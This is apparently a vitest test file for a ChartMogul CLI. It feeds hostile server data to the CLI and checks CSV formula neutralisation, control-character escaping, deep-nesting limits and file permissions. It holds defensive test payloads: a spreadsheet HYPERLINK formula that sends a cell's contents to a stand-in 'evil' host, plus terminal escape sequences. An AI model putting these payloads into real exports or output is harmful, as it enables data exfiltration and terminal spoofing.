import { existsSync, statSync } from 'node:fs';
import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from './support/parse-csv.js';
import { type HostileServer, sendJson, startHostileServer } from './support/hostile-server.js';
import { runCli } from './support/run-cli.js';

const KEY = 'cli-hostile-key-4c2e9d17';
const env = { CHARTMOGUL_API_KEY: KEY };
const ESCAPES = '\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202e';
const NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', 'plain', `a${ESCAPES}b`];

let server: HostileServer;
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'chartmogul-cli-hostile-'));
  server = await startHostileServer((req, res) => {
    const path = req.url ?? '';
    if (req.method === 'POST') return sendJson(res, 422, { code: 422, message: `refused${ESCAPES}`, param: null });
    if (path.startsWith('/v1/customers?') || path === '/v1/customers') {
      return sendJson(res, 200, { entries: NAMES.map((name, index) => ({ name, mrr: index === 2 ? -5 : index })), has_more: false, cursor: null });
    }
    const deep = /^\/v1\/customers\/cus_deep_(\d+)/.exec(path);
    if (deep) {
      const depth = Number(deep[1]);
      return sendJson(res, 200, `{"uuid":"cus_deep","nested":${'['.repeat(depth)}${']'.repeat(depth)}}`);
    }
    if (path.startsWith('/v1/customers/cus_')) return sendJson(res, 200, { uuid: 'cus_1', name: `evil${ESCAPES}` });
    sendJson(res, 404, { code: 404, message: 'no', param: null });
  });
});
afterAll(async () => {
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the test.
const hasControls = (text: string) => /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/.test(text);

describe('CSV cells are neutralised against formula injection (OWASP)', () => {
  it('a text cell starting with = + - @ tab or CR gets a single quote; numbers do not', async () => {
    const run = await runCli(['customers', 'list', '--base-url', server.url, '--format', 'csv'], { env });
    expect(run.code, run.stderr).toBe(0);
    const rows = parseCsv(run.stdout);
    expect(rows[0]).toEqual(['name', 'mrr']);
    expect(rows.slice(1).map((row) => row[0])).toEqual([...NAMES.slice(0, 6).map((name) => `'${name}`), 'plain', `a${ESCAPES}b`]);
    expect(rows[3]?.[1]).toBe('-5');
  });

  it('--csv-raw writes the cells as they are', async () => {
    const run = await runCli(['customers', 'list', '--base-url', server.url, '--format', 'csv', '--csv-raw'], { env });
    expect(run.code, run.stderr).toBe(0);
    expect(parseCsv(run.stdout).slice(1).map((row) => row[0])).toEqual(NAMES);
  });
});

describe('terminal output escapes control characters from server data', () => {
  it('in a table of a list and of a record', async () => {
    for (const args of [['customers', 'list'], ['customers', 'retrieve', 'cus_1']]) {
      const run = await runCli([...args, '--base-url', server.url, '--format', 'table'], { env });
      expect(run.code, run.stderr).toBe(0);
      expect(hasControls(run.stdout), JSON.stringify(run.stdout)).toBe(false);
      expect(run.stdout).toContain('\\u001b]0;pwned\\u0007');
    }
  });

  it('in an error message', async () => {
    const run = await runCli(['customers', 'create', '--base-url', server.url, '--data', '{"name":"x","data_source_uuid":"ds_1","external_id":"e"}'], { env });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('refused');
    expect(hasControls(run.stderr), JSON.stringify(run.stderr)).toBe(false);
  });
});

describe('a body nested a million levels deep', () => {
  // A million levels once (the case); the other formats share the code past the overflow, at a cheaper depth.
  for (const [format, depth] of [['json', 1_000_000], ['jsonl', 100_000], ['csv', 100_000], ['table', 100_000]] as const) {
    it(`is printed in ${format} (${depth} levels), its deep part cut, without a RangeError`, async () => {
      const run = await runCli(['customers', 'retrieve', `cus_deep_${depth}`, '--base-url', server.url, '--format', format], { env });
      expect(run.stderr).not.toContain('RangeError');
      expect(run.code, run.stderr).toBe(0);
      expect(run.stdout).toContain('cus_deep');
      // A table cuts its cells to the terminal's width: the marker is past the cut.
      if (format !== 'table') expect(run.stdout).toContain('nested deeper than 1000 levels');
      if (format === 'json') expect(JSON.parse(run.stdout).uuid).toBe('cus_deep');
    });
  }
});

describe('the failed-records file', () => {
  it('is created 0600 (it holds the records), even over an existing 0644 file', async () => {
    const input = join(dir, 'customers.jsonl');
    await writeFile(input, '{"name":"a"}\n{"name":"b"}\n');
    await chmod(input, 0o644);
    await writeFile(`${input}.failed.jsonl`, 'old\n');
    await chmod(`${input}.failed.jsonl`, 0o644);
    const run = await runCli(['customers', 'create', '--base-url', server.url, '--from', input], { env });
    expect(run.code, run.stderr).toBe(1);
    expect(statSync(`${input}.failed.jsonl`).mode & 0o777).toBe(0o600);
    expect((await readFile(`${input}.failed.jsonl`, 'utf8')).trim().split('\n')).toHaveLength(2);
  });

  it.runIf(existsSync('/dev/full'))('that cannot be written (disk full: /dev/full) does not crash the import: counts intact, exit 1', async () => {
    const input = join(dir, 'full.jsonl');
    await writeFile(input, '{"name":"a"}\n{"name":"b"}\n{"name":"c"}\n');
    const run = await runCli(['customers', 'create', '--base-url', server.url, '--from', input, '--failed', '/dev/full'], { env });
    expect(run.stderr).not.toContain('unexpected error');
    expect(run.code, run.stderr).toBe(1);
    expect(run.stderr).toContain('0 created, 3 failed, of 3 records');
    expect(run.stderr).toContain('Could not write the failed-records file /dev/full (ENOSPC)');
    expect(statSync('/dev/full').isCharacterDevice()).toBe(true);
  });
});
